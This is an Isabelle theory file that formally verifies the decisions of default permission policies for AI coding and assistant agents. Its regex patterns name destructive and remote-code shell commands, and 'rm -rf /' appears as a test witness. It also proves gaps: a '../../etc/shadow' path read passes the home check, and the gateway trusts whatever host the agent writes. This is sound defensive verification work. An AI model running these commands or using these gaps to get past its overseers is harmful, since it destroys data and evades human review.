(* ===== verification/Default_Policies.thy ===== *)
theory Default_Policies
  imports Conditions Gateway_Laws Proxy_Laws Cli Eval
begin

text \<open>
  The two policy packs the repository ships, \<open>policies/default/personal-assistant.toml\<close> and
  \<open>coding-agent.toml\<close>, as the policies their texts parse to, and what they decide for every action,
  with an interpreter that reads their conditions as documented. The last section composes this
  with the gateway.
\<close>

subsection \<open>The packs\<close>

definition shipped_rule :: "string \<Rightarrow> cond \<Rightarrow> decision_kind \<Rightarrow> string option \<Rightarrow> cond \<times> rule" where
  "shipped_rule i c d explain = (c, (rule_on i c d)\<lparr>rule_explain := explain\<rparr>)"

definition as_critical :: "cond \<times> rule \<Rightarrow> cond \<times> rule" where
  "as_critical cr = (fst cr, (snd cr)\<lparr>rule_critical := True\<rparr>)"

definition as_sandboxed :: "cond \<times> rule \<Rightarrow> cond \<times> rule" where
  "as_sandboxed cr = (fst cr, (snd cr)\<lparr>rule_sandbox := True\<rparr>)"

definition http_get_trusted :: "cond \<times> rule" where
  "http_get_trusted = shipped_rule ''http-get-trusted''
     (C_And (C_And (C_Is [''kind''] ''HttpRequest'') (C_Is [''args'', ''method''] ''GET'')) C_Trusted)
     DK_Allow None"

definition run_a_shell :: "string \<Rightarrow> cond \<times> rule" where
  "run_a_shell i = as_sandboxed (shipped_rule i (C_Is [''kind''] ''Exec'') DK_Ask
     (Some ''Runs a shell command on your computer.''))"

definition data_exfiltration :: "cond \<times> rule" where
  "data_exfiltration = as_critical (shipped_rule ''data-exfiltration''
     (C_And (C_Set [''context'', ''extra'', ''body_contains_known_secret'']) (C_Not C_Trusted))
     DK_Deny (Some ''Tried to send a secret (password, key, or token) to an untrusted site.''))"

definition access_credentials :: "cond \<times> rule" where
  "access_credentials = as_critical (shipped_rule ''access-credentials''
     (C_And (C_Is [''capability''] ''Credential'') (C_Not C_Trusted))
     DK_Deny (Some ''Tried to read stored credentials for an untrusted destination.''))"

definition money_movement :: "cond \<times> rule" where
  "money_movement = as_critical (shipped_rule ''money-movement'' (C_Is [''capability''] ''Payment'')
     DK_Ask (Some ''Sends money.''))"

text \<open>The regular expressions, with their backslashes written out.\<close>

definition slashed :: "string \<Rightarrow> string" where
  "slashed = map (\<lambda>c. if c = CHR ''%'' then CHR 0x5C else c)"

definition DESTRUCTIVE :: string where
  "DESTRUCTIVE = slashed
     (''rm%s+(-[a-zA-Z]+%s+)*(/|~|%$HOME)(%s|$|%*)|:%(%)%s*%{|(curl|wget)%s[^|]*%|%s*(ba)?sh|''
      @ ''mkfs|dd%s+if=.*of=/dev/'')"

definition WORLD_WRITABLE :: string where
  "WORLD_WRITABLE = slashed ''chmod%s+(777|o%+w)''"

definition coding_agent_rules :: "(cond \<times> rule) list" where
  "coding_agent_rules =
     [shipped_rule ''read-files'' (C_Is [''kind''] ''FileRead'') DK_Allow None,
      http_get_trusted,
      shipped_rule ''write-files'' (C_Is [''kind''] ''FileWrite'') DK_Ask
        (Some ''Creates or modifies a file.''),
      run_a_shell ''run-shell'',
      as_critical (shipped_rule ''destructive-shell''
        (C_And (C_Is [''kind''] ''Exec'') (C_Matches [''args'', ''cmd''] DESTRUCTIVE)) DK_Deny
        (Some ''Looks like a destructive or remote-code-execution shell command.'')),
      data_exfiltration, access_credentials, money_movement]"

definition personal_assistant_rules :: "(cond \<times> rule) list" where
  "personal_assistant_rules =
     [shipped_rule ''read-user-documents'' (C_And (C_Is [''kind''] ''FileRead'') C_In_Home) DK_Allow None,
      http_get_trusted,
      shipped_rule ''write-user-files'' (C_And (C_Is [''kind''] ''FileWrite'') C_In_Home) DK_Ask
        (Some ''Creates or modifies files in your home folder.''),
      run_a_shell ''exec-shell'',
      shipped_rule ''chmod-world-writable''
        (C_And (C_Is [''kind''] ''Exec'') (C_Matches [''args'', ''cmd''] WORLD_WRITABLE)) DK_Ask
        (Some ''Makes files modifiable by any user on this machine.''),
      shipped_rule ''send-email'' (C_Is [''kind''] ''Email'') DK_Ask (Some ''Sends an email on your behalf.''),
      (fst money_movement, (snd money_movement)\<lparr>rule_cap :=
         Some \<lparr>cap_amount_max = Some (F64_Fin 200), cap_currency = Some ''EUR'', cap_count_max = None\<rparr>\<rparr>),
      as_critical (shipped_rule ''bulk-delete''
        (C_And (C_Is [''kind''] ''Delete'') (C_Above [''args'', ''count''] 10)) DK_Ask
        (Some ''Deletes many items at once.'')),
      data_exfiltration, access_credentials]"

definition coding_agent_policy :: policy where
  "coding_agent_policy = (policy_of ''coding-agent'' coding_agent_rules)
     \<lparr>pol_meta := Some (''For an autonomous coding agent. Reads are silent; writes and shell ask; ''
        @ ''destructive shell is denied. The data-exfiltration and credential rules below become ''
        @ ''enforceable once the network proxy (Phase 2) populates request bodies and the ''
        @ ''credential capability.'')\<rparr>"

definition personal_assistant_policy :: policy where
  "personal_assistant_policy = (policy_of ''personal-assistant'' personal_assistant_rules)
     \<lparr>pol_meta := Some ''Restrictive default role. Unknown actions require human review.''\<rparr>"

lemmas shipped_defs = shipped_rule_def as_critical_def as_sandboxed_def http_get_trusted_def run_a_shell_def
  data_exfiltration_def access_credentials_def money_movement_def rule_on_def

lemma shipped_policies_wf: "policy_wf coding_agent_policy" "policy_wf personal_assistant_policy"
  by (simp_all add: policy_wf_def coding_agent_policy_def personal_assistant_policy_def policy_of_def
      coding_agent_rules_def personal_assistant_rules_def shipped_defs)

lemma shipped_texts: "texts_agree coding_agent_rules" "texts_agree personal_assistant_rules"
  by (simp_all add: texts_agree_def coding_agent_rules_def personal_assistant_rules_def shipped_defs
      del: cond_text.simps)

lemma shipped_pol_rules [simp]:
  "pol_rules coding_agent_policy = map snd coding_agent_rules"
  "pol_rules personal_assistant_policy = map snd personal_assistant_rules"
  "pol_default coding_agent_policy = DK_Ask" "pol_default personal_assistant_policy = DK_Ask"
  by (simp_all add: coding_agent_policy_def personal_assistant_policy_def policy_of_def)


subsection \<open>What they decide\<close>

definition destructive_command :: "(string \<Rightarrow> string \<Rightarrow> bool) \<Rightarrow> action \<Rightarrow> bool" where
  "destructive_command re a \<longleftrightarrow> act_kind a = K_Exec
     \<and> (\<exists>cmd. jget ''cmd'' (act_args a) = Some (JStr cmd) \<and> re DESTRUCTIVE cmd)"

definition leaks_outside :: "eval_env \<Rightarrow> action \<Rightarrow> bool" where
  "leaks_outside env a \<longleftrightarrow> untrusted_host env a
     \<and> (map_of (ctx_extra (act_context a)) ''body_contains_known_secret'' = Some (JBool True)
        \<or> act_capability a = Some Cap_Credential)"

definition trusted_get :: "eval_env \<Rightarrow> action \<Rightarrow> bool" where
  "trusted_get env a \<longleftrightarrow> act_kind a = K_HttpRequest \<and> trusted_host env a
     \<and> jget ''method'' (act_args a) = Some (JStr ''GET'')"

lemma kind_texts:
  "kind_name k = ''FileRead'' \<longleftrightarrow> k = K_FileRead" "kind_name k = ''FileWrite'' \<longleftrightarrow> k = K_FileWrite"
  "kind_name k = ''Exec'' \<longleftrightarrow> k = K_Exec" "kind_name k = ''HttpRequest'' \<longleftrightarrow> k = K_HttpRequest"
  "kind_name k = ''Email'' \<longleftrightarrow> k = K_Email" "kind_name k = ''Delete'' \<longleftrightarrow> k = K_Delete"
  by (cases k; simp)+

lemma capability_texts:
  "capability_name c = ''Credential'' \<longleftrightarrow> c = Cap_Credential"
  "capability_name c = ''Payment'' \<longleftrightarrow> c = Cap_Payment"
  by (cases c; simp)+

lemma coding_agent_kinds:
  "DK_Deny \<in> rule_decision ` set (met_rules re coding_agent_rules (build_context a env)) \<longleftrightarrow>
     destructive_command re a \<or> leaks_outside env a"
  "DK_Ask \<in> rule_decision ` set (met_rules re coding_agent_rules (build_context a env)) \<longleftrightarrow>
     act_kind a = K_FileWrite \<or> act_kind a = K_Exec \<or> act_capability a = Some Cap_Payment"
  "DK_Allow \<in> rule_decision ` set (met_rules re coding_agent_rules (build_context a env)) \<longleftrightarrow>
     act_kind a = K_FileRead \<or> trusted_get env a"
  unfolding met_kinds coding_agent_rules_def shipped_defs destructive_command_def leaks_outside_def trusted_get_def
  by (simp_all add: cond_met_simps kind_texts capability_texts del: cond_text.simps) blast+

lemma personal_assistant_kinds:
  "DK_Deny \<in> rule_decision ` set (met_rules re personal_assistant_rules (build_context a env)) \<longleftrightarrow>
     leaks_outside env a"
  "DK_Ask \<in> rule_decision ` set (met_rules re personal_assistant_rules (build_context a env)) \<longleftrightarrow>
     act_kind a = K_FileWrite \<and> path_in_home env a \<or> act_kind a = K_Exec \<or> act_kind a = K_Email
     \<or> act_capability a = Some Cap_Payment
     \<or> act_kind a = K_Delete \<and> Option.bind (jget ''count'' (act_args a)) (number_above 10) = Some True"
  "DK_Allow \<in> rule_decision ` set (met_rules re personal_assistant_rules (build_context a env)) \<longleftrightarrow>
     act_kind a = K_FileRead \<and> path_in_home env a \<or> trusted_get env a"
  unfolding met_kinds personal_assistant_rules_def shipped_defs leaks_outside_def trusted_get_def
  by (simp_all add: cond_met_simps kind_texts capability_texts del: cond_text.simps) blast+

lemma kinds_only_allow: "ks = {DK_Allow} \<longleftrightarrow> DK_Deny \<notin> ks \<and> DK_Ask \<notin> ks \<and> DK_Allow \<in> ks"
  by (auto intro: decision_kind.exhaust)

lemma uncapped_rules:
  "\<forall>(c, r) \<in> set coding_agent_rules. rule_cap r = None \<or> rule_decision r \<noteq> DK_Allow"
  "\<forall>(c, r) \<in> set personal_assistant_rules. rule_cap r = None \<or> rule_decision r \<noteq> DK_Allow"
  by (simp_all add: coding_agent_rules_def personal_assistant_rules_def shipped_defs)

text \<open>Both packs, loaded.\<close>

lemma no_payment: "\<not> action_is_critical a \<Longrightarrow> act_capability a \<noteq> Some Cap_Payment"
  by (auto simp: action_is_critical_def)

lemma shipped_kind:
  assumes "toml src = Inr p" and "policy_wf p" and "pol_rules p = map snd crs" and "texts_agree crs"
    and "cel_reads re cel_compile exec (map fst crs)" and "pol_default p = DK_Ask"
    and "\<forall>(c, r) \<in> set crs. rule_cap r = None \<or> rule_decision r \<noteq> DK_Allow"
    and "compiled_from_toml_str toml cel_compile src = Inr pol"
  shows "kind_of_decision (out_decision (evaluate exec pol a env)) =
     (let ks = rule_decision ` set (met_rules re crs (build_context a env))
      in if DK_Deny \<in> ks then DK_Deny
         else if DK_Ask \<notin> ks \<and> DK_Allow \<in> ks \<and> \<not> action_is_critical a then DK_Allow else DK_Ask)"
  using documented_policy [of toml src, OF assms(1-5)] assms(8)
  by (auto simp: meant_kind [OF assms(6,7)] Let_def kinds_only_allow)

lemma coding_agent_kind:
  assumes "toml src = Inr coding_agent_policy" and "cel_reads re cel_compile exec (map fst coding_agent_rules)"
    and "compiled_from_toml_str toml cel_compile src = Inr pol"
  shows "kind_of_decision (out_decision (evaluate exec pol a env)) =
     (if destructive_command re a \<or> leaks_outside env a then DK_Deny
      else if (act_kind a = K_FileRead \<or> trusted_get env a) \<and> \<not> action_is_critical a then DK_Allow
      else DK_Ask)"
  using shipped_kind [of toml src, OF assms(1) shipped_policies_wf(1) _ shipped_texts(1) assms(2) _ uncapped_rules(1) assms(3), of a env]
    no_payment [of a]
  by (auto simp: Let_def coding_agent_kinds trusted_get_def)

lemma personal_assistant_kind:
  assumes "toml src = Inr personal_assistant_policy"
    and "cel_reads re cel_compile exec (map fst personal_assistant_rules)"
    and "compiled_from_toml_str toml cel_compile src = Inr pol"
  shows "kind_of_decision (out_decision (evaluate exec pol a env)) =
     (if leaks_outside env a then DK_Deny
      else if (act_kind a = K_FileRead \<and> path_in_home env a \<or> trusted_get env a)
              \<and> \<not> action_is_critical a then DK_Allow
      else DK_Ask)"
  using shipped_kind [of toml src, OF assms(1) shipped_policies_wf(2) _ shipped_texts(2) assms(2) _ uncapped_rules(2) assms(3), of a env]
    no_payment [of a]
  by (auto simp: Let_def personal_assistant_kinds trusted_get_def)

text \<open>
  C12: what the shipped coding-agent pack decides, for every action. With a TOML parser that reads the
  pack and an interpreter that reads its conditions as documented, the pack loads; a destructive
  command, and a secret or a credential bound for an untrusted host, are denied; otherwise a file
  read, or a GET to a trusted host, that is in no critical category is allowed silently; everything
  else asks.
\<close>

theorem coding_agent_decides:
  assumes "toml src = Inr coding_agent_policy" and "cel_reads re cel_compile exec (map fst coding_agent_rules)"
  shows "\<exists>cp. compiled_from_toml_str toml cel_compile src = Inr cp
     \<and> (\<forall>a env. kind_of_decision (out_decision (evaluate exec cp a env)) =
          (if destructive_command re a \<or> leaks_outside env a then DK_Deny
           else if (act_kind a = K_FileRead \<or> trusted_get env a) \<and> \<not> action_is_critical a then DK_Allow
           else DK_Ask))"
proof -
  obtain cp where "compiled_from_toml_str toml cel_compile src = Inr cp"
    using documented_policy [of toml src, OF assms(1) shipped_policies_wf(1) _ shipped_texts(1) assms(2)] by auto
  with coding_agent_kind [of toml src, OF assms this] show ?thesis by blast
qed

text \<open>
  C15: what the shipped personal-assistant pack decides, for every action: a secret or a credential
  bound for an untrusted host is denied; otherwise a file read whose path begins with the user's
  home, or a GET to a trusted host, that is in no critical category is allowed silently; everything
  else asks.
\<close>

theorem personal_assistant_decides:
  assumes "toml src = Inr personal_assistant_policy"
    and "cel_reads re cel_compile exec (map fst personal_assistant_rules)"
  shows "\<exists>cp. compiled_from_toml_str toml cel_compile src = Inr cp
     \<and> (\<forall>a env. kind_of_decision (out_decision (evaluate exec cp a env)) =
          (if leaks_outside env a then DK_Deny
           else if (act_kind a = K_FileRead \<and> path_in_home env a \<or> trusted_get env a)
                   \<and> \<not> action_is_critical a then DK_Allow
           else DK_Ask))"
proof -
  obtain cp where "compiled_from_toml_str toml cel_compile src = Inr cp"
    using documented_policy [of toml src, OF assms(1) shipped_policies_wf(2) _ shipped_texts(2) assms(2)] by auto
  with personal_assistant_kind [of toml src, OF assms this] show ?thesis by blast
qed


subsection \<open>At the Claude Code hook\<close>

lemma hook_action_fields:
  "ctx_extra (act_context (hook_action tool v)) = []"
  "act_capability (hook_action tool v) = infer_capability (act_kind (hook_action tool v))"
  by (simp_all add: hook_action_def build_action_def claude_tool_to_call_def Let_def)

lemma hook_action_kind:
  "act_kind (hook_action tool v) = K_FileRead \<longleftrightarrow>
     tool \<in> {''Read'', ''Glob'', ''Grep'', ''LS'', ''NotebookRead''}"
  "act_kind (hook_action tool v) = K_Exec \<longleftrightarrow> tool = ''Bash''"
  "\<not> action_is_critical (hook_action tool v)"
  by (auto simp: hook_action_def build_action_def claude_tool_to_call_def Let_def action_is_critical_def)

lemma hook_action_cmd:
  "act_args (hook_action ''Bash'' v) = jobj [(''cmd'', str_or_empty (jget_str ''command'' v))]"
  by (simp add: hook_action_def build_action_def claude_tool_to_call_def Let_def)

lemma hook_never_leaks: "\<not> leaks_outside env (hook_action tool v)"
proof -
  have "infer_capability k \<noteq> Some Cap_Credential" for k by (cases k) simp_all
  then show ?thesis by (simp add: leaks_outside_def hook_action_fields)
qed

lemma no_trusted_host: "\<not> trusted_get (cli_eval_env home) a"
  by (simp add: trusted_get_def trusted_host_def cli_eval_env_def)

definition bash_command :: "json \<Rightarrow> string" where
  "bash_command v = (case Option.bind (jget ''tool_input'' v) (jget_str ''command'') of Some c \<Rightarrow> c | None \<Rightarrow> [])"

lemma decide_hook_word:
  assumes "parse (trim input) = Inr v" and "jget_str ''tool_name'' v = Some tool"
  shows "fst (decide_hook exec parse input pol env) = decision_word (kind_of_decision (out_decision
     (evaluate exec pol (hook_action tool (case jget ''tool_input'' v of Some x \<Rightarrow> x | None \<Rightarrow> JNull)) env)))"
  using assms by (auto simp: decide_hook_def Let_def decision_word_def split: decision.split)

text \<open>
  C16: the hook with the shipped coding-agent pack. Whatever Claude Code sends, a tool that only reads
  is allowed, a shell command that looks destructive is denied, and every other call of a tool is
  put to the user.
\<close>

theorem coding_agent_hook:
  assumes "toml src = Inr coding_agent_policy" and "cel_reads re cel_compile exec (map fst coding_agent_rules)"
    and "compiled_from_toml_str toml cel_compile src = Inr pol"
    and "parse (trim input) = Inr v" and "jget_str ''tool_name'' v = Some tool"
  shows "fst (decide_hook exec parse input pol (cli_eval_env home)) =
     (if tool \<in> {''Read'', ''Glob'', ''Grep'', ''LS'', ''NotebookRead''} then ''allow''
      else if tool = ''Bash'' \<and> re DESTRUCTIVE (bash_command v) then ''deny''
      else ''ask'')"
proof -
  let ?x = "case jget ''tool_input'' v of Some x \<Rightarrow> x | None \<Rightarrow> JNull"
  have d: "kind_of_decision (out_decision (evaluate exec pol a env)) =
      (if destructive_command re a \<or> leaks_outside env a then DK_Deny
       else if (act_kind a = K_FileRead \<or> trusted_get env a) \<and> \<not> action_is_critical a then DK_Allow
       else DK_Ask)" for a env
    using coding_agent_kind [OF assms(1-3)] .
  have c: "destructive_command re (hook_action tool ?x) \<longleftrightarrow> tool = ''Bash'' \<and> re DESTRUCTIVE (bash_command v)"
    by (auto simp: destructive_command_def hook_action_kind hook_action_cmd jget_jobj str_or_empty_def
        bash_command_def jget_str_def split: option.splits)
  show ?thesis
    by (auto simp: decide_hook_word [of parse, OF assms(4,5)] d c hook_action_kind hook_never_leaks
        no_trusted_host decision_word_def)
qed

subsection \<open>At the gateway\<close>

text \<open>
  The calls the pack lets pass at the gateway, in terms of the call as the client sent it: its kind
  and capability are the given ones, else inferred; the host is the argument of that name.
\<close>

definition silent_call :: "string list \<Rightarrow> tool_call \<Rightarrow> bool" where
  "silent_call hosts call \<longleftrightarrow>
     (let kind = (case tc_kind call of Some k \<Rightarrow> k | None \<Rightarrow> infer_kind (tc_tool call));
          cap = (case tc_capability call of Some c \<Rightarrow> Some c | None \<Rightarrow> infer_capability kind)
      in (kind = K_FileRead
          \<or> kind = K_HttpRequest \<and> jget ''method'' (tc_args call) = Some (JStr ''GET'')
             \<and> (\<exists>host \<in> set hosts. jget_str ''host'' (tc_args call) = Some host))
         \<and> cap \<notin> {Some Cap_Payment, Some Cap_Credential, Some Cap_Exfiltration, Some Cap_IrreversibleDelete})"

lemma coding_agent_call_kind:
  assumes "toml src = Inr coding_agent_policy" and "cel_reads re cel_compile exec (map fst coding_agent_rules)"
    and "compiled_from_toml_str toml cel_compile src = Inr pol"
  shows "out_decision (evaluate exec pol (build_action call source i now) env) = Allow
    \<longleftrightarrow> silent_call (env_trusted_hosts env) call"
proof -
  let ?a = "build_action call source i now"
  let ?kind = "case tc_kind call of Some k \<Rightarrow> k | None \<Rightarrow> infer_kind (tc_tool call)"
  have a: "act_kind ?a = ?kind" "act_args ?a = tc_args call" "ctx_extra (act_context ?a) = []"
    "act_capability ?a = (case tc_capability call of Some c \<Rightarrow> Some c | None \<Rightarrow> infer_capability ?kind)"
    "ctx_host (act_context ?a) = jget_str ''host'' (tc_args call)"
    by (simp_all add: build_action_def Let_def)
  have c: "action_is_critical ?a \<longleftrightarrow> act_capability ?a
      \<in> {Some Cap_Payment, Some Cap_Credential, Some Cap_Exfiltration, Some Cap_IrreversibleDelete}"
    by (cases "act_capability ?a") (auto simp: action_is_critical_def elim: capability_is_critical.elims)
  have l: "leaks_outside env ?a \<Longrightarrow> action_is_critical ?a" and d: "destructive_command re ?a \<Longrightarrow> act_kind ?a = K_Exec"
    by (auto simp: leaks_outside_def a(3) action_is_critical_def destructive_command_def)
  have "out_decision (evaluate exec pol ?a env) = Allow
      \<longleftrightarrow> (act_kind ?a = K_FileRead \<or> trusted_get env ?a) \<and> \<not> action_is_critical ?a"
    unfolding kind_of_decision_Allow_iff [symmetric] coding_agent_kind [OF assms] using l d
    by (auto simp: trusted_get_def)
  then show ?thesis
    unfolding c silent_call_def Let_def trusted_get_def trusted_host_def a by auto
qed

lemma consults_only:
  "EV_Forward fc \<notin> set (call_consults dp io call g)" "EV_Record n b \<notin> set (call_consults dp io call g)"
proof -
  have "EV_Forward fc \<notin> set (case d of Ask x \<Rightarrow> [EV_Explain a, EV_Approve a e] | _ \<Rightarrow> [])"
    "EV_Record n b \<notin> set (case d of Ask x \<Rightarrow> [EV_Explain a, EV_Approve a e] | _ \<Rightarrow> [])" for d a e
    by (cases d; simp)+
  then show "EV_Forward fc \<notin> set (call_consults dp io call g)"
    "EV_Record n b \<notin> set (call_consults dp io call g)"
    by (simp_all only: call_consults_def list.set empty_iff split: if_split) simp_all
qed

text \<open>
  C13: what passes the gateway silently under the coding-agent pack, exactly. Without a human's
  approval, a call reaches the upstream if and only if no hard override applies, its record was
  written, its kind is a file read or a GET whose \<open>host\<close> argument names a trusted host, and its
  capability, claimed or inferred, is in no critical category. What else the arguments carry plays no
  part: nothing at the gateway looks for a secret in them, and the host is what the agent wrote.
\<close>

theorem coding_agent_gateway_silent:
  assumes "toml src = Inr coding_agent_policy" and "cel_reads re cel_compile (dp_cel dp) (map fst coding_agent_rules)"
    and "compiled_from_toml_str toml cel_compile src = Inr (gw_policy g)"
    and "handle dp io call g = (o', evs, g')"
    and "io_approve io (call_action io call g) (io_explain io (call_action io call g)) \<noteq> Approved"
  shows "(\<exists>fc. EV_Forward fc \<in> set evs) \<longleftrightarrow>
     call_override io call g = None \<and> (\<exists>e. EV_Record e True \<in> set evs)
     \<and> silent_call (env_trusted_hosts (gw_env g)) call"
proof -
  have "out_decision (call_verdict dp io call g) = Allow \<longleftrightarrow> silent_call (env_trusted_hosts (gw_env g)) call"
    unfolding normalize_call_def prod.sel by (rule coding_agent_call_kind [OF assms(1-3)])
  then have c: "call_cleared dp io call g \<longleftrightarrow>
      call_override io call g = None \<and> silent_call (env_trusted_hosts (gw_env g)) call"
    using assms(5) by (auto simp: call_cleared_def split: decision.splits)
  obtain post where e: "evs = call_consults dp io call g
       @ [EV_Record (call_entry dp io call g) (is_ok (fst (call_appended dp io call g)))]
       @ (if call_cleared dp io call g \<and> is_ok (fst (call_appended dp io call g))
          then EV_Forward (restored_call io call g) # post else [])"
    using handle_events [of dp io call g] assms(4) by auto
  let ?ok = "is_ok (fst (call_appended dp io call g))"
  have "(\<exists>fc. EV_Forward fc \<in> set evs) \<longleftrightarrow> call_cleared dp io call g \<and> ?ok"
    unfolding e by (cases ?ok; cases "call_cleared dp io call g") (auto simp: consults_only)
  moreover have "(\<exists>e. EV_Record e True \<in> set evs) \<longleftrightarrow> ?ok" if "call_cleared dp io call g"
    unfolding e using that by (cases ?ok) (auto simp: consults_only)
  ultimately show ?thesis using c by blast
qed


subsection \<open>At the proxy\<close>

lemma proxied_extra_secret:
  "map_of (ctx_extra (act_context (proxied_action dp now h rq))) ''body_contains_known_secret'' =
     Some (JBool (rs_secret (seen_signals dp h rq)))"
  using signal_fields_secret [of "seen_signals dp h rq"]
  by (simp add: proxied_action_def prepare_def Let_def tag_exfiltration_def to_action_def)

lemma denied_not_forwarded:
  assumes "kind_of_decision (out_decision (proxied_verdict dp (pio_now_ms io) h rq)) = DK_Deny"
  shows "fst (handle_request dp show_f64 io rq h) \<noteq> RR_Request rq'"
    and "PE_Approve a \<notin> set (fst (snd (handle_request dp show_f64 io rq h)))"
proof -
  obtain reason where "out_decision (proxied_verdict dp (pio_now_ms io) h rq) = Deny reason"
    using assms by (cases "out_decision (proxied_verdict dp (pio_now_ms io) h rq)") simp_all
  then show "fst (handle_request dp show_f64 io rq h) \<noteq> RR_Request rq'"
    and "PE_Approve a \<notin> set (fst (snd (handle_request dp show_f64 io rq h)))"
    by (simp_all add: handle_request_eq Let_def resolve_ask_def respond_def classify_def)
qed

text \<open>
  C14: a secret never leaves through the proxy under a shipped pack. If the proxy runs with the
  coding-agent or the personal-assistant pack and the readable body of a request carries one of the
  broker's secrets to an untrusted host, the request is not forwarded and no human is asked.
\<close>

theorem shipped_proxy_blocks_leak:
  assumes "toml src = Inr coding_agent_policy \<and> cel_reads re cel_compile (pd_cel dp) (map fst coding_agent_rules)
      \<or> toml src = Inr personal_assistant_policy
         \<and> cel_reads re cel_compile (pd_cel dp) (map fst personal_assistant_rules)"
    and "compiled_from_toml_str toml cel_compile src = Inr (ph_policy h)"
    and "readable_body (pd_http dp) rq" and "wr_body rq = Body (Inr bytes)"
    and "utf8_valid bytes" and "body_leaks_secret (ph_broker h) bytes"
    and "normalize_host (hr_host (summarize (pd_http dp) rq)) \<notin> set (env_trusted_hosts (ph_env h))"
  shows "fst (handle_request dp show_f64 io rq h) \<noteq> RR_Request rq'
     \<and> PE_Approve a \<notin> set (fst (snd (handle_request dp show_f64 io rq h)))"
proof -
  let ?a = "proxied_action dp (pio_now_ms io) h rq"
  have "leaks_outside (ph_env h) ?a"
    using assms(5-7) inspect_readable(1) [OF assms(3,4)]
    by (simp add: leaks_outside_def proxied_extra_secret untrusted_host_def proxied_host)
  then have "kind_of_decision (out_decision (proxied_verdict dp (pio_now_ms io) h rq)) = DK_Deny"
    using assms(1) coding_agent_kind [of toml src re cel_compile "pd_cel dp", OF _ _ assms(2)]
      personal_assistant_kind [of toml src re cel_compile "pd_cel dp", OF _ _ assms(2)]
    by (auto simp: proxied_verdict_eq)
  from denied_not_forwarded [OF this] show ?thesis by blast
qed

subsection \<open>The personal-assistant pack and paths\<close>

text \<open>
  The condition on the user's home compares texts: a path that leaves the home by \<open>..\<close> still begins
  with it, and reading it is allowed silently.
\<close>

lemma home_prefix_escaped:
  assumes "toml src = Inr personal_assistant_policy"
    and "cel_reads re cel_compile exec (map fst personal_assistant_rules)"
    and "compiled_from_toml_str toml cel_compile src = Inr pol"
  shows "out_decision (evaluate exec pol
     (hook_action ''Read'' (JObj [(''file_path'', JStr (home @ ''/../../etc/shadow''))]))
     (cli_eval_env (Some home))) = Allow"
proof -
  let ?a = "hook_action ''Read'' (JObj [(''file_path'', JStr (home @ ''/../../etc/shadow''))])"
  have "ctx_path (act_context ?a) = Some (home @ ''/../../etc/shadow'')"
    by (simp add: hook_action_def build_action_def claude_tool_to_call_def Let_def jget_str_def jget_jobj
        first_some_def str_or_empty_def)
  then have "path_in_home (cli_eval_env (Some home)) ?a"
    by (simp add: path_in_home_def cli_eval_env_def)
  then have "kind_of_decision (out_decision (evaluate exec pol ?a (cli_eval_env (Some home)))) = DK_Allow"
    unfolding personal_assistant_kind [of toml src, OF assms] by (simp add: hook_never_leaks hook_action_kind)
  then show ?thesis by simp
qed

subsection \<open>Witnesses\<close>

definition ex_re :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "ex_re r s = (s = ''rm -rf /'')"

lemma shipped_readable:
  "cel_reads re Inr (reading_exec re (map fst coding_agent_rules)) (map fst coding_agent_rules)"
  "cel_reads re Inr (reading_exec re (map fst personal_assistant_rules)) (map fst personal_assistant_rules)"
  by (rule reading_exec_reads, code_simp)+

definition ex_agent_pack :: "string compiled_policy" where
  "ex_agent_pack = \<lparr>cp_policy = coding_agent_policy, cp_programs = map (\<lambda>(c, r). rule_when r) coding_agent_rules\<rparr>"

lemma collect_all: "collect_results (\<lambda>r. Inr (f r)) rs = Inr (map f rs)"
  by (induction rs) simp_all

lemma ex_agent_pack_loads: "compiled_from_toml_str (\<lambda>_. Inr coding_agent_policy) Inr src = Inr ex_agent_pack"
  using shipped_policies_wf(1)
  by (simp add: compiled_from_toml_str_def policy_from_toml_str_def compile_def collect_all ex_agent_pack_def
      validate_structure_ok [symmetric] comp_def case_prod_unfold)

abbreviation ex_agent_pack_exec :: "string cel_exec" where
  "ex_agent_pack_exec \<equiv> reading_exec ex_re (map fst coding_agent_rules)"

theorem coding_agent_decides_witness:
  "kind_of_decision (out_decision (evaluate ex_agent_pack_exec ex_agent_pack
     (hook_action ''Read'' (JObj [])) (cli_eval_env None))) = DK_Allow"
  using coding_agent_decides [of "\<lambda>_. Inr coding_agent_policy" "[]", OF refl shipped_readable(1) [of ex_re]]
  by (auto simp: ex_agent_pack_loads destructive_command_def hook_action_kind hook_never_leaks)

theorem personal_assistant_decides_witness:
  "\<exists>cp. compiled_from_toml_str (\<lambda>_. Inr personal_assistant_policy) Inr [] = Inr cp
     \<and> kind_of_decision (out_decision (evaluate (reading_exec ex_re (map fst personal_assistant_rules)) cp
         (hook_action ''Bash'' (JObj [])) (cli_eval_env None))) = DK_Ask"
  using personal_assistant_decides [of "\<lambda>_. Inr personal_assistant_policy" "[]", OF refl shipped_readable(2) [of ex_re]]
  by (auto simp: hook_action_kind hook_never_leaks no_trusted_host)

theorem coding_agent_hook_witness:
  "fst (decide_hook ex_agent_pack_exec (\<lambda>_. Inr (JObj [(''tool_name'', JStr ''Bash''),
     (''tool_input'', JObj [(''command'', JStr ''rm -rf /'')])])) [] ex_agent_pack (cli_eval_env None)) = ''deny''"
proof -
  let ?v = "JObj [(''tool_name'', JStr ''Bash''), (''tool_input'', JObj [(''command'', JStr ''rm -rf /'')])]"
  have t: "jget_str ''tool_name'' ?v = Some ''Bash''" and c: "bash_command ?v = ''rm -rf /''"
    by (simp_all add: jget_str_def bash_command_def)
  from coding_agent_hook [of "\<lambda>_. Inr coding_agent_policy" "[]", OF refl shipped_readable(1) [of ex_re]
      ex_agent_pack_loads, of "\<lambda>_. Inr ?v", OF refl t, of "[]" None]
  show ?thesis by (simp add: c ex_re_def)
qed

theorem coding_agent_gateway_silent_witness:
  "let dp = ex_dp\<lparr>dp_cel := ex_agent_pack_exec\<rparr>; io = ex_io\<lparr>io_approve := \<lambda>_ _. Denied\<rparr>;
       g = (ex_gateway K_Other DK_Ask)\<lparr>gw_policy := ex_agent_pack\<rparr>
   in (\<exists>fc. EV_Forward fc \<in> set (fst (snd (handle dp io (ex_call K_FileRead ''/x'') g))))
      \<and> \<not> (\<exists>fc. EV_Forward fc \<in> set (fst (snd (handle dp io (ex_call K_Exec ''/x'') g))))"
proof -
  let ?dp = "ex_dp\<lparr>dp_cel := ex_agent_pack_exec\<rparr>" and ?io = "ex_io\<lparr>io_approve := \<lambda>_ _. Denied\<rparr>"
    and ?g = "(ex_gateway K_Other DK_Ask)\<lparr>gw_policy := ex_agent_pack\<rparr>"
